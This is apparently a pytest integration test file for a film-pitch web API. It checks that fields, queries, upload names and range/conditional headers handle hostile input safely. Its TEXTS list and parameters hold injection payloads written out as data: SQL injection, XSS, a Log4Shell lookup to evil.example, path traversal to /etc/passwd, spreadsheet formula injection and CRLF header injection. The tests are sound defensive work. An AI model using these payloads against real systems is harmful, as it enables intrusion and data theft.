"""Text that wants to be more than text, and files that are asked for in ways that nobody needs."""

from __future__ import annotations

import hashlib

import httpx
import pytest

from tests.integration.application import Api, Person

PDF = b"%PDF-1.7\n" + bytes(range(256)) * 40
PITCH = {"title": "T", "logline": "L", "genre": "g", "format": "short", "budget": 1}
TEXTS = [
    "'; drop table pitches; --",
    "' or '1'='1",
    "\\'; select pg_sleep(10); --",
    "$1 $2 $$ ${7*7} {{7*7}} <%= 7*7 %>",
    "%s%n%x %00 \\u0000",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "\u202egnirts desrever",
    "%0d%0aset-cookie: evil=1",
]  # fmt: skip


@pytest.mark.parametrize("text", TEXTS)
def test_text_is_text_in_every_field(
    api: Api, creator: Person, investor: Person, text: str
) -> None:
    fields = {"title": text, "logline": text, "genre": text.lower()[:40], "synopsis": text}
    body = {**fields, "format": "short", "budget": 1, "status": "published"}
    made = api.ask("POST", "/api/pitches", by=creator, json=body)
    assert made.status_code == 201, made.text
    path = f"/api/pitches/{made.json()['id']}"
    seen = api.ask("GET", path, by=creator)
    assert {name: seen.json()[name] for name in ("title", "logline", "genre")} == {
        name: value for name, value in fields.items() if name != "synopsis"
    }
    assert seen.json()["whole"]["synopsis"] == text
    assert seen.headers["content-type"] == "application/json"
    assert seen.headers["x-content-type-options"] == "nosniff"
    asked = api.ask("POST", f"{path}/ndas", by=investor, json={"message": text})
    assert asked.json()["message"] == text
    sent = {"content-type": "application/pdf"}
    name = httpx.QueryParams({"name": text})
    upload = api.ask("POST", f"{path}/uploads?{name}", by=creator, content=PDF, headers=sent)
    assert upload.status_code == 201, upload.text
    file = api.ask("GET", f"/api/uploads/{upload.json()['id']}", by=creator)
    assert file.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
    assert "set-cookie" not in file.headers or "evil" not in file.headers["set-cookie"]


@pytest.mark.parametrize("text", TEXTS)
def test_text_is_text_in_every_query(api: Api, creator: Person, text: str) -> None:
    for path, name, statuses in (
        ("/api/pitches", "q", {200}),
        ("/api/pitches", "genre", {200}),
        ("/api/pitches", "format", {400}),
        ("/api/pitches", "cursor", {400}),
        ("/api/pitches", "limit", {400}),
        ("/api/pitches/trending", "limit", {400}),
        ("/api/ndas", "status", {400}),
    ):
        query = httpx.QueryParams({name: text})
        answer = api.ask("GET", f"{path}?{query}", by=creator)
        assert answer.status_code in statuses, (path, name)
    body = {"email": text, "password": text}
    assert api.ask("POST", "/api/sessions", json=body).status_code == 401


@pytest.mark.parametrize("name", ["a\r\nset-cookie: evil=1", "a\x00.pdf", "\u2028", " "])
def test_a_file_is_not_named_by_what_ends_a_header(api: Api, creator: Person, name: str) -> None:
    id = api.ask("POST", "/api/pitches", by=creator, json=PITCH).json()["id"]
    query = httpx.QueryParams({"name": name})
    sent = {"content-type": "application/pdf"}
    answer = api.ask(
        "POST", f"/api/pitches/{id}/uploads?{query}", by=creator, content=PDF, headers=sent
    )
    assert answer.status_code == 400


# Parts of a file and conditions


@pytest.mark.parametrize(
    ("headers", "statuses"),
    [
        ({"range": "bytes=" + ",".join(f"{n}-{n}" for n in range(500))}, {200}),
        ({"range": "bytes=0-,0-,0-,0-"}, {200}),
        ({"range": "bytes=-0"}, {200, 416}),
        ({"range": "bytes=9-5"}, {200, 416}),
        ({"range": "bytes=999999999999999999999-"}, {200, 416}),
        ({"range": "bytes=0-999999999999999"}, {200, 206}),
        ({"range": "lines=0-5"}, {200}),
        ({"range": "bytes=a-b"}, {200}),
        ({"range": "bytes=0-5", "if-range": '"other"'}, {200}),
        ({"if-match": '"other"'}, {412}),
        ({"if-match": "*"}, {200}),
        ({"if-none-match": "*"}, {304}),
        ({"if-none-match": '"a", W/"b", c'}, {200}),
        ({"if-none-match": "," * 500}, {200}),
        ({"if-none-match": '"'}, {200}),
        ({"if-none-match": '"a"' * 1000}, {200}),
        ({"if-match": ","}, {412}),
        ({"if-match": "\x7f"}, {412}),
        ({"if-modified-since": "yesterday"}, {200}),
        ({"if-unmodified-since": "Thu, 01 Jan 1970 00:00:00 GMT"}, {412}),
        ({"if-modified-since": "Thu, 01 Jan 2099 00:00:00 GMT"}, {200, 304}),
    ],
)
def test_parts_and_conditions_of_any_form(
    api: Api, creator: Person, headers: dict[str, str], statuses: set[int]
) -> None:
    id = api.ask("POST", "/api/pitches", by=creator, json=PITCH).json()["id"]
    sent = {"content-type": "application/pdf"}
    path = f"/api/pitches/{id}/uploads?name=a.pdf"
    file = api.ask("POST", path, by=creator, content=PDF, headers=sent).json()
    answer = api.ask("GET", f"/api/uploads/{file['id']}", by=creator, headers=headers)
    assert answer.status_code in statuses, answer.text[:200]
    if answer.status_code == 200:
        assert hashlib.sha256(answer.content).hexdigest() == file["sha256"]
